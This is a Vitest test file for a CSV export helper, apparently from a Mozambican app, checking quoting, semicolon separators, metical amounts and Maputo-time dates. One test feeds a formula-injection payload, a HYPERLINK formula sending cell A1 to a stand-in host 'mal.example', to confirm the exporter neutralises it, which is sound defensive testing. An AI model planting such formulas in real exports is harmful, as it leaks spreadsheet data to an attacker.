import { describe, expect, it } from 'vitest';
import { centavosToCsv, csvCell, instantToCsv, toCsv } from './csv.ts';

describe('csv', () => {
  it('quotes only the cells that need it', () => {
    expect(csvCell('Maputo')).toBe('Maputo');
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('diz "olá"')).toBe('"diz ""olá"""');
    expect(csvCell('linha\nnova')).toBe('"linha\nnova"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(0)).toBe('0');
  });

  it('neutralises cells a spreadsheet would run as formulas, keeping plain numbers', () => {
    expect(csvCell('=HYPERLINK("https://mal.example/?x="&A1;"Clique")')).toBe(
      `"'=HYPERLINK(""https://mal.example/?x=""&A1;""Clique"")"`,
    );
    expect(csvCell('+258 84 000 0000')).toBe("'+258 84 000 0000");
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('Ana =1')).toBe('Ana =1');
    expect(csvCell('-15,00')).toBe('-15,00');
    expect(csvCell(-3)).toBe('-3');
  });

  it('joins rows with CRLF and cells with semicolons', () => {
    expect(toCsv(['A', 'B'], [['1', 'x;y'], [2, null]])).toBe('A;B\r\n1;"x;y"\r\n2;\r\n');
  });

  it('writes centavos as MT with a decimal comma', () => {
    expect(centavosToCsv(220050)).toBe('2200,50');
    expect(centavosToCsv(5)).toBe('0,05');
    expect(centavosToCsv(0)).toBe('0,00');
    expect(centavosToCsv(-1500)).toBe('-15,00');
  });

  it("writes instants in Maputo's time (issue 32: 'Criada em' was UTC)", () => {
    expect(instantToCsv('2026-12-01T22:30:00.000Z')).toBe('02/12/2026 00:30');
    expect(instantToCsv('2026-11-23T07:00:00.000Z')).toBe('23/11/2026 09:00');
    expect(instantToCsv(null)).toBe('');
  });
});
